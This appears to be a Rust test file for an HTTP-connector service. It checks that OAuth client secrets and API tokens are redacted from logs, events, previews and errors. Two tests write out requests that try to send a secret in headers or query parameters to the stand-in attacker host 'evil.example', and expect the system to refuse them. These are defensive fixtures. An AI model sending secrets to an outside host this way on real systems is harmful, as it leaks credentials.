//! Secrets go to the other system and are shown to nobody.

use hookyard_tests::rest::{CLIENT_ID, CLIENT_SECRET, DEALS_TOKEN, Fault};
use serde_json::json;

use super::{Crm, merged};

#[tokio::test]
async fn no_secret_and_no_token_is_in_a_record_an_event_a_log_or_an_api_answer() {
    let crm = Crm::start().await;
    let auth = json!({
        "type": "oauth2", "token_url": format!("{}/oauth/token", crm.rest.base()), "client_id": { "text": CLIENT_ID },
        "client_secret": { "secret": "client" },
    });
    let mut shown = Vec::new();
    let places = json!({ "auth": auth, "query": [{ "name": "token", "value": { "secret": "rd" } }] });
    for (path, more) in [
        ("/status/200", json!({})),
        ("/echo", json!({})),
        ("/status/500", json!({ "reply": { "on_error": "falhou" } })),
        ("/close", json!({})),
        ("/redirect/1", json!({ "redirects_max": 1 })),
    ] {
        shown.push(crm.tried("POST", path, &merged(places.clone(), &more)).await.to_string());
    }
    let preview =
        json!({ "request": merged(json!({ "method": "GET", "url": format!("{}/x", crm.rest.base()) }), &places) });
    shown.push(crm.call("preview", &preview).await.text());
    crm.rest.fail("POST /api", Fault::Body(200, format!(r#"{{"_id":"7","seen":"{DEALS_TOKEN}"}}"#)), 1);
    for _ in 0..2 {
        shown.push(crm.ran(&json!({ "request": "create-deal", "fields": { "nome": "Ana" } })).await.to_string());
    }
    for path in ["/v1/invocations?connection=crm&limit=100", "/v1/connections/crm", "/v1/events", "/v1/plugins"] {
        shown.push(crm.host.get(path).await.text());
    }
    assert_eq!(crm.rest.tokens().len(), 1);
    let sent: Vec<_> = crm.rest.requests().iter().map(|sent| sent.query.clone()).collect();
    assert!(sent.iter().any(|query| query.contains(DEALS_TOKEN)), "the other system gets it: {sent:?}");
    for text in shown {
        for secret in [DEALS_TOKEN, CLIENT_SECRET, &crm.rest.tokens()[0]] {
            assert!(!text.contains(secret), "{secret}: {text}");
        }
    }
}

#[tokio::test]
async fn an_answer_that_brings_a_secret_back_is_withheld_and_its_event_says_so() {
    let crm = Crm::start().await;
    crm.rest.fail("POST /api", Fault::Body(200, format!(r#"{{"_id":"{DEALS_TOKEN}"}}"#)), 1);
    let record = crm.ran(&json!({ "request": "create-deal", "fields": { "nome": "Ana" } })).await;
    assert_eq!(
        (&record["error"]["kind"], &record["message"]["text"]),
        (&json!("protocol"), &json!("Tente mais tarde"))
    );
    let [event] = &crm.host.events().await[..] else { panic!("one event") };
    assert_eq!((&event["type"], event["data"].get("response")), (&json!("generic-http.request.failed"), None));
}

#[tokio::test]
async fn a_request_of_a_client_cannot_take_a_secret_where_the_operator_did_not_grant_it() {
    let crm = Crm::start().await;
    for place in ["headers", "query"] {
        let secret = json!({ "method": "GET", "url": "https://evil.example/", place: [{ "name": "k", "value": { "secret": "rd" } }] });
        let record = crm.call("test", &json!({ "request": secret })).await;
        assert_eq!(
            (record.status(), &record.json()["error"]["kind"]),
            (200, &json!("forbidden_target")),
            "{}",
            record.text()
        );
    }
    let unknown =
        json!({ "method": "GET", "url": crm.rest.base(), "query": [{ "name": "k", "value": { "secret": "other" } }] });
    let refused = crm.call("test", &json!({ "request": unknown })).await;
    assert_eq!((refused.status(), &refused.json()["errors"][0]["code"]), (422, &json!("unknown_secret")));
}

#[tokio::test]
async fn no_error_shows_what_stands_for_a_secret() {
    let crm = Crm::start().await;
    let secrets =
        json!({ "path": { "k": { "secret": "rd" } }, "query": [{ "name": "t", "value": { "secret": "client" } }] });
    crm.rest.fail("POST /", Fault::Broken, 1);
    let broken = crm.tried("POST", "/a/:k", &secrets).await;
    let refused = crm.tried_at("POST", "https://evil.example/:k", &secrets).await;
    for (record, url) in
        [(&broken, format!("{}/a/•••?t=•••", crm.rest.base())), (&refused, "https://evil.example/•••?t=•••".to_owned())]
    {
        let message = record["error"]["message"].as_str().expect("an error");
        assert!(message.contains(&url) && !record.to_string().contains("hysec_"), "{record}");
    }
}
